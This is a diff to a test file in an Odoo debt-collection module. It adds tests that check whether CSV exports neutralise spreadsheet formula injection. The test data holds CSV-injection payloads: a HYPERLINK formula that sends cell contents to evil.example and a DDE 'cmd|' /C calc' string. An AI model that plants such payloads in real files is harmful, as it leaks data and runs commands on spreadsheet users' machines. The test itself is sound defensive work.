@@ -13,7 +13,11 @@ from odoo.exceptions import AccessError, UserError
 from odoo.tests import Form, tagged
 from odoo.tools import mute_logger
 
-from odoo.addons.debiteur_dunning.models.debiteur_handoff import XMLNS
+from odoo.addons.debiteur_dunning.models.debiteur_handoff import (
+    CSV_NUMERIC_COLUMNS,
+    XMLNS,
+    csv_cell,
+)
 
 from .common import TODAY, DebiteurCommon
 
@@ -317,6 +321,53 @@ class TestHandoff(HandoffCommon):
         )
         self.assertEqual({row["debtor"] for row in rows}, {self.debtor.name})
 
+    def test_csv_neutralises_formulas(self):
+        """Text a debtor can edit (portal) never reaches the agency's spreadsheet
+        as a formula; amounts stay plain numbers, negative ones included."""
+        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Pay here")'
+        self.debtor.write(
+            {
+                "name": hostile,
+                "street": "+31 cmd|' /C calc'!A0",
+                "city": "\tTabbed",
+                "email": "@SUM(1+1)@evil.example",
+                "phone": "-2+3",
+                "vat": False,
+            }
+        )
+        handoff = self.hand_off()
+        text = handoff.csv_attachment_id.raw.decode()
+        rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
+        self.assertTrue(rows)
+        for row in rows:
+            for column, cell in row.items():
+                if column in CSV_NUMERIC_COLUMNS and cell:
+                    float(cell)  # a number, not text
+                    continue
+                self.assertFalse(
+                    cell.startswith(("=", "+", "-", "@", "\t", "\r")),
+                    f"{row['record_type']}.{column} starts like a formula: {cell!r}",
+                )
+        self.assertEqual({row["debtor"] for row in rows}, {"'" + hostile})
+        debtor_row = next(row for row in rows if row["record_type"] == "debtor")
+        self.assertTrue(debtor_row["note"].startswith("'+31 cmd"))
+        # Nothing is lost: the quote is the only change.
+        self.assertIn("@SUM(1+1)@evil.example", debtor_row["note"])
+        self.assertIn("-2+3", debtor_row["note"])
+
+    def test_csv_cell(self):
+        self.assertEqual(csv_cell("-12.50", numeric=True), "-12.50")
+        self.assertEqual(csv_cell("1000.00", numeric=True), "1000.00")
+        self.assertEqual(csv_cell("-12.50"), "'-12.50")
+        self.assertEqual(csv_cell("-1+1", numeric=True), "'-1+1")
+        self.assertEqual(csv_cell("=1+1", numeric=True), "'=1+1")
+        for start in ("=", "+", "-", "@", "\t", "\r"):
+            self.assertEqual(csv_cell(start + "x"), "'" + start + "x")
+        self.assertEqual(csv_cell("Jansen BV"), "Jansen BV")
+        self.assertEqual(csv_cell("a=b"), "a=b")
+        self.assertEqual(csv_cell(False), "")
+        self.assertEqual(csv_cell(None), "")
+
     def test_pdf_in_agency_language(self):
         handoff = self.hand_off()
         self.assertTrue(handoff.pdf_attachment_id.raw)
@@ -354,9 +405,10 @@ class TestHandoff(HandoffCommon):
         self.assertEqual(log.user_id, self.dunning_manager)
         self.assertEqual(log.recipient, self.agency.email)
         action = handoff.with_user(self.dunning_manager).action_download_xml()
-        self.assertIn(str(handoff.xml_attachment_id.id), action["url"])
         self.assertEqual(len(handoff.export_ids), 2)
         download = handoff.export_ids.filtered(lambda e: e.channel == "download")
+        # The logged download hands out a one-time link of its own.
+        self.assertIn(f"/debiteur_dunning/dossier/{download.id}?token=", action["url"])
         self.assertEqual(download.export_format, "xml")
         self.assertEqual(download.attachment_ids, handoff.xml_attachment_id)
         with self.assertRaises(UserError):
